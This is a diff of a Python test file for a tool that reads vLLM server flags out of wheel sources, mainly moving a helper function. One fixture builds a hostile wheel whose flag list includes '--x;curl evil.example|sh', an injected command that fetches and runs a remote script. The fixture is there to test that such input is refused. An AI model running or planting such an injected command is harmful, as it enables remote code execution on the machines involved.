@@ -283,6 +283,12 @@ def test_upgrade_reads_the_gpu_code_of_a_new_release_and_refuses_what_the_gpus_c
     assert moved.rc == 0 and "has not been read" not in moved.err, moved.err
 
 
+def release_flags_of(version: str) -> list[str]:
+    from dockergen.components.serving.vllm import release_flags
+
+    return sorted(release_flags(version) or [])
+
+
 def _vllm_source(flags: list[str]) -> dict[str, bytes]:
     """Server-option source laid out as vLLM 0.33.0 lays it out (the two files the reader
     reads): every option a literal ``add_argument`` in ``EngineArgs.add_cli_args``, the first
@@ -303,9 +309,7 @@ def _vllm_source(flags: list[str]) -> dict[str, bytes]:
 def flag_index() -> Iterator[str]:
     """Releases whose wheels carry their server options: 0.43.0 drops --enable-log-requests
     and adds --speculative-window; 0.44.0's source is laid out as the reader does not know."""
-    from dockergen.components.serving.vllm import release_flags
-
-    flags = sorted(release_flags("0.33.0") or [])
+    flags = release_flags_of("0.33.0")
     assert "--enable-log-requests" in flags
     newer = sorted({*flags, "--speculative-window"} - {"--enable-log-requests"})
     broken = {**_vllm_source(flags), **_metrics_source({"vllm:kv_cache_usage_perc":
@@ -448,14 +452,13 @@ def test_pypi_the_source_reading_of_a_real_wheel_gives_the_shipped_facts() -> No
     ones it ships: vLLM 0.34.0's real wheel, by range requests, gives its shipped flag list
     and its shipped quantization floors."""
     from dockergen.components.serving.base import min_cc
-    from dockergen.components.serving.vllm import release_flags
     from dockergen.knowledge import builtin_facts
     from dockergen.upgrade import derive_source
 
     tables, notes = derive_source("https://pypi.org/simple", "vllm", "vllm", "0.34.0")
     assert notes == ("metric names the dashboard and alerts use: all 9 in its "
                      "vllm/v1/metrics/loggers.py, as in 0.33.0",)
-    assert tables["serve_flags"]["0.34.0"]["flags"] == sorted(release_flags("0.34.0") or [])
+    assert tables["serve_flags"]["0.34.0"]["flags"] == release_flags_of("0.34.0")
     shipped = builtin_facts("serving/vllm")["quantization"]
     assert {m: r["min_cc"]["0.34.0"] for m, r in tables["quantization"].items()} == {
         m: min_cc(shipped[m], "0.34.0")[0] for m in ("fp8", "int8", "int4-awq", "gptq")}
@@ -481,11 +484,6 @@ def hostile_index() -> Iterator[str]:
         "0.49.0": _wheel("0.49.0", ["torch==2.14.0"], ">=3.11,<3.15", _vllm_source(
             [*(release_flags_of("0.33.0")), "--x;curl evil.example|sh"]))})
 
-
-def release_flags_of(version: str) -> list[str]:
-    from dockergen.components.serving.vllm import release_flags
-
-    return sorted(release_flags(version) or [])
 
 
 def test_hostile_source_in_a_wheel_is_refused_by_bound_never_parsed_without_one(
